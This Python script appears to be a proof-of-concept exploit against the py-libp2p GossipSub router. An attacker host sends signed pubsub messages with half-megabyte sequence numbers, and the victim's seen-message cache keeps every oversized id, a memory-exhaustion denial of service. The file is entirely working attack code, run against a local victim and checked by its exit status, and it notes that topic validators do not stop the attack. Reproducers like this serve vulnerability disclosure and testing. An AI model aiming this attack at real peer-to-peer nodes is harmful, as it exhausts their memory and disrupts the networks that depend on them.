"""Message ids contain the sender's seqno, whatever its size: the seen cache keeps it all."""

import sys

import trio
from libp2p import new_host
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.peer.id import ID
from libp2p.peer.peerinfo import PeerInfo
from libp2p.pubsub.gossipsub import GossipSub
from libp2p.pubsub.pb import rpc_pb2
from libp2p.pubsub.pubsub import Pubsub
from libp2p.pubsub.validators import PUBSUB_SIGNING_PREFIX
from libp2p.tools.anyio_service import background_trio_service
from libp2p.utils import encode_varint_prefixed
from multiaddr import Multiaddr

MESHSUB = "/meshsub/1.1.0"
TOPIC, SEQNO_BYTES, MESSAGES = "topic", 500_000, 20


def build_frame(keys, number: int) -> bytes:
    message = rpc_pb2.Message(
        from_id=ID.from_pubkey(keys.public_key).to_bytes(),
        seqno=number.to_bytes(SEQNO_BYTES, "big"),
        data=b"",
        topicIDs=[TOPIC],
    )
    signed = PUBSUB_SIGNING_PREFIX.encode() + message.SerializeToString()
    message.signature = keys.private_key.sign(signed)
    return encode_varint_prefixed(rpc_pb2.RPC(publish=[message]).SerializeToString())


async def main():
    listen = [Multiaddr("/ip4/127.0.0.1/tcp/0")]
    victim, attacker, keys = new_host(), new_host(), create_new_key_pair()
    router = GossipSub([MESHSUB], 6, 4, 12, heartbeat_interval=1)
    pubsub = Pubsub(victim, router)
    # A topic validator does not help: what it refuses goes into the validation cache instead.
    pubsub.set_topic_validator(TOPIC, lambda _peer, _message: True, is_async_validator=False)
    attacker.set_stream_handler(MESHSUB, lambda _stream: trio.sleep_forever())
    async with victim.run(listen), attacker.run(listen):
        async with background_trio_service(pubsub), background_trio_service(router):
            await pubsub.wait_until_ready()
            await pubsub.subscribe(TOPIC)
            await attacker.connect(PeerInfo(victim.get_id(), victim.get_addrs()))
            stream = await attacker.new_stream(victim.get_id(), [MESHSUB])
            for number in range(MESSAGES):
                await stream.write(build_frame(keys, number))
            with trio.move_on_after(20):
                while len(pubsub.seen_messages.cache) < MESSAGES:
                    await trio.sleep(0.1)
            kept = sum(map(len, pubsub.seen_messages.cache))
    print(f"{MESSAGES} messages without content; the seen cache holds ids of {kept:,} bytes")
    return 0 if kept >= SEQNO_BYTES * MESSAGES // 2 else 1


if __name__ == "__main__":
    sys.exit(trio.run(main))
